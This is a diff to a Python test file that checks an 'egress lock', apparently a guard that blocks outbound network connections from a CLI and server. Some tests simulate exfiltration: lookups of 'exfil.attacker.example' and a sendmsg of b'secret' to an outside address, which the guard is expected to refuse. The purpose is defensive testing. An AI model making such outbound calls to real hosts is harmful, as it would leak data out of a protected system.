@@ -17,6 +17,7 @@ import sys
 import threading
 import urllib.error
 import urllib.request
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -133,16 +134,68 @@ def test_cli_process_starts_locked_and_doctor_shows_it(inhouse_home: Path) -> No
 
 
 def test_cli_process_refuses_outbound(inhouse_home: Path) -> None:
+    """A command run through `main` is locked (main installs the lock; importing the CLI does not)."""
     code = (
-        "import inhouse.cli, socket\n"
-        "try:\n"
-        f"    socket.create_connection(('{OUTSIDE}', 80), timeout=1)\n"
-        "except OSError as e:\n"
-        "    print(type(e).__name__)\n"
+        "import socket, sys\n"
+        "from inhouse.cli.main import cli, main\n"
+        "from inhouse.guard import egress\n"
+        "assert egress.current() is None, 'importing the CLI installed the lock'\n"
+        "@cli.command()\n"
+        "def probe():\n"
+        "    try:\n"
+        f"        socket.create_connection(('{OUTSIDE}', 80), timeout=1)\n"
+        "    except OSError as e:\n"
+        "        print(type(e).__name__)\n"
+        "sys.exit(main(['probe']))\n"
     )
     env = {**os.environ, "INHOUSE_HOME": str(inhouse_home)}
     r = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
     assert r.stdout.strip() == "EgressBlocked", r.stderr
+
+
+def test_server_app_installs_the_lock(inhouse_home: Path) -> None:
+    code = (
+        "from inhouse.guard import egress\n"
+        "from inhouse.config import Settings\n"
+        "from inhouse.server.app import create_app\n"
+        "assert egress.current() is None\n"
+        "create_app(embedder=None, settings=Settings(embedder='hash'))\n"
+        "print(egress.current().state()['enabled'])\n"
+    )
+    env = {**os.environ, "INHOUSE_HOME": str(inhouse_home)}
+    r = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=120)
+    assert r.stdout.strip() == "True", r.stderr
+
+
+def _refused(call: Callable[[], object]) -> list[egress.Attempt]:
+    with EGRESS.capture() as seen:
+        with pytest.raises(egress.EgressBlocked):
+            call()
+    return seen
+
+
+def test_dns_lookups_and_sendmsg_are_refused() -> None:
+    """Calls without a wrapper of their own are caught by the audit hook: name lookups, sendmsg."""
+    name = "exfil.attacker.example"
+    for call, event in ((lambda: socket.gethostbyname(name), "socket.gethostbyname"),
+                        (lambda: socket.gethostbyname_ex(name), "socket.gethostbyname"),
+                        (lambda: socket.gethostbyaddr(OUTSIDE), "socket.gethostbyaddr")):
+        assert [(a.host, a.call) for a in _refused(call)][-1][1] == event
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        seen = _refused(lambda: s.sendmsg([b"secret"], [], 0, (OUTSIDE, 53)))
+    assert [(a.host, a.call, a.allowed) for a in seen] == [(OUTSIDE, "socket.sendmsg", False)]
+    assert socket.gethostbyname("localhost") == "127.0.0.1"  # loopback names still resolve
+
+
+def test_direct_use_of_the_c_socket_module_is_refused() -> None:
+    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+    try:
+        seen = _refused(lambda: s.connect((OUTSIDE, 80)))
+    finally:
+        s.close()
+    assert [(a.host, a.call) for a in seen] == [(OUTSIDE, "socket.connect")]
+    seen = _refused(lambda: _socket.getaddrinfo("exfil.attacker.example", 443))
+    assert [a.call for a in seen] == ["socket.getaddrinfo"]
 
 
 def test_session_hook_fails_a_run_that_swallowed_an_outbound_attempt(tmp_path: Path) -> None:
